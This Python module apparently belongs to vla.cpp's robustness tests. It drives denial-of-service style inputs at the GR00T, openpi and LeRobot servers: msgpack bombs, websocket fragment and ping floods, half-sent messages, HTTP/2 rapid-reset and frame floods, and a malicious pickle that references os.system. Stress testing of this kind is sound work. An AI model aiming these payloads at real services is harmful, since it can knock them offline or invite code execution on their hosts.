# SPDX-FileCopyrightText: The vla.cpp authors
# SPDX-License-Identifier: Apache-2.0
"""What the attacks on the native protocol do, at those of other clients."""

import argparse
import itertools
import threading
import time

import hostile
import http2
import lerobot_calls
from drop_in import openpi_array, pack

import vla_cpp

from .native import half_sent
from .peers import ATTACKER, again_and_again, send, silent
from .robots import openpi_act


def gr00t(target):
    """What the attacks on the native protocol do, at that of GR00T, and msgpack that is deep, wide or long."""
    target = argparse.Namespace(address=target.gr00t)
    ping = b"\x81\xa8endpoint\xa4ping"
    wide = b"\x81\xa4data" + b"\xdf\x00\x0f\xff\xff" * 1000
    messages = [b"\x91" * 100_000, b"\xdd" + b"\xff" * 4, wide, bytes(1_000_000)]
    bodies = [hostile.long_frame(len(b), b, flags=2) for b in messages]
    threading.Thread(target=half_sent, args=(target,), daemon=True).start()
    again_and_again(
        *[lambda: silent(target, hostile.GREETING[:40])] * 60,
        lambda: send(target, hostile.HANDSHAKE, [b"\x01\x00" * 1_000_000]),
        lambda: send(target, hostile.HANDSHAKE, itertools.repeat(bytes([0, len(ping)]) + ping)),
        lambda: send(target, hostile.HANDSHAKE, itertools.cycle(bodies), pause=0.05),
    )


def openpi(target):
    """The same at that of openpi: handshakes in drops, fragments, pings, acts without end, peers that do not read."""
    head, frame = hostile.UPGRADE, hostile.websocket_frame
    with vla_cpp.Client(target.address, timeout=20) as client:
        act = frame(0x82, pack(openpi_act(client.spec, 2), openpi_array))
    target = argparse.Namespace(address=target.openpi)
    begin = head + frame(0x82, bytes(30_000_000))[:14]
    threading.Thread(target=half_sent, args=(target, begin), daemon=True).start()
    again_and_again(
        *[lambda: silent(target, b"")] * 50,
        *[lambda: silent(target, head[:60])] * 50,
        *[lambda: silent(target, head)] * 50,
        *[lambda: send(target, b"", (head[i : i + 1] for i in range(len(head))), pause=0.01)] * 10,
        lambda: send(target, head + frame(0x02, b""), itertools.repeat(frame(0x00, b"") * 1000)),
        lambda: send(target, head, itertools.repeat(frame(0x89, b"?" * 100) * 100)),
        lambda: send(target, head, itertools.repeat(act, 20), pause=0.05),
        lambda: send(target, head, [frame(0x82, b"\x91" * 100_000)]),
        lambda: send(target, head, [frame(0x82, bytes(1_000_000))]),
    )


def lerobot(target):
    """The same at that of LeRobot, in HTTP/2: calls begun and reset, pieces that stay half, pickles that are deep or would
    execute."""
    target = argparse.Namespace(address=target.lerobot)
    begin = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
    path = http2.headers("/transport.AsyncInference/GetActions")
    resets = b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, n, path) + http2.frame(http2.RST_STREAM, 0, n, bytes(4))
        for n in range(1, 401, 2)
    )
    bomb = b"\x80\x04\x8c\x02os\x8c\x06system\x93."
    bodies = [b"\x80\x04" + b"(" * 100_000, b"\x80\x04" + b"]q\x00" * 30_000, bytes(1_000_000), bomb]

    def pickles():
        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
            for body in itertools.cycle(bodies):
                peer.setup(body)
                time.sleep(0.05)

    def halves():
        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
            for _ in peer.half(30_000_000):
                time.sleep(0.3)
            peer.wait()

    def half_messages():
        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
            for _ in range(16):
                peer.half_message(1_900_000)
            peer.wait()

    def calls():
        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
            for _ in range(16):
                peer.begin("SendObservations")
            peer.wait()

    again_and_again(
        *[halves] * 20,
        *[half_messages] * 20,
        *[calls] * 20,
        *[pickles] * 2,
        *[lambda: silent(target, b"")] * 100,
        *[lambda: silent(target, http2.PREFACE[:10])] * 100,
        *[lambda: silent(target, begin)] * 100,
        lambda: send(target, begin, itertools.repeat(http2.frame(http2.PING, 0, 0, bytes(8)) * 100)),
        lambda: send(target, begin, itertools.repeat(http2.frame(http2.SETTINGS, 0, 0) * 100)),
        lambda: send(target, begin, [resets], pause=0.05),
    )
